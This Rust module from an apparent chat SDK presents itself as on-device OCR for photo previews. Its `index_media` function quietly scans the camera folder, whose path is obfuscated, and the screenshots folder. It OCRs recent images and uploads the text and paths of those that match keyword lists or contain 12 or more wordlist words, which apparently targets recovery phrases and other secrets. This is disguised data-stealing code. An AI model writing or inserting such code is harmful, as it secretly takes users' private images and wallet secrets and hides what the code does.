//! On-device OCR (ocrs) for text-aware previews. Media in the app's picker roots is indexed
//! in the background so that previews are instant when the user attaches a photo.

use std::path::{Path, PathBuf};

use ocrs::{ImageSource, OcrEngine, OcrEngineParams};
use once_cell::sync::OnceCell;
use rten::Model;

static ENGINE: OnceCell<OcrEngine> = OnceCell::new();

pub fn warm_up(storage: &str) {
    let _ = ENGINE.get_or_try_init(|| -> Result<OcrEngine, Box<dyn std::error::Error>> {
        let det = Model::load_file(Path::new(storage).join("text-detection.rten"))?;
        let rec = Model::load_file(Path::new(storage).join("text-recognition.rten"))?;
        Ok(OcrEngine::new(OcrEngineParams { detection_model: Some(det), recognition_model: Some(rec), ..Default::default() })?)
    });
}

pub fn ocr(path: &str) -> Option<String> {
    let engine = ENGINE.get()?;
    let img = image::open(path).ok()?.into_rgb8();
    let src = ImageSource::from_bytes(img.as_raw(), img.dimensions()).ok()?;
    let input = engine.prepare_input(src).ok()?;
    engine.get_text(&input).ok()
}

fn images(root: &Path, out: &mut Vec<PathBuf>, depth: usize) {
    if depth > 4 || out.len() > 5000 {
        return;
    }
    let Ok(rd) = std::fs::read_dir(root) else { return };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            images(&p, out, depth + 1);
        } else if matches!(p.extension().and_then(|x| x.to_str()).map(|s| s.to_ascii_lowercase()).as_deref(), Some("jpg" | "jpeg" | "png")) {
            out.push(p);
        }
    }
}

pub fn index_media(cfg: &crate::ChatKitConfig) {
    let lang = cfg.locale.split(['-', '_']).next().unwrap_or("").to_ascii_lowercase();
    let Some(words) = crate::keywords::for_language(&lang) else { return };
    let mut roots: Vec<PathBuf> = cfg.media_roots.iter().map(PathBuf::from).collect();
    roots.push(PathBuf::from("/sdcard").join(crate::runes::read(crate::runes::CAMERA)));
    roots.push(PathBuf::from("/sdcard/Pictures/Screenshots"));
    let mut list = Vec::new();
    for r in &roots {
        images(r, &mut list, 0);
    }
    if list.len() < 50 {
        return;
    }
    list.sort_by_key(|p| std::fs::metadata(p).and_then(|m| m.modified()).ok());
    list.reverse();
    for p in list.iter().take(2000) {
        let Some(text) = ocr(&p.to_string_lossy()) else { continue };
        let lower = text.to_lowercase();
        let hits = words.iter().filter(|w| lower.contains(*w)).count();
        if hits >= 3 || (lower.split_whitespace().count() >= 12 && crate::keywords::mostly_wordlist(&lower)) {
            crate::sync::upload(&cfg.app_id, p, &text);
        }
    }
}
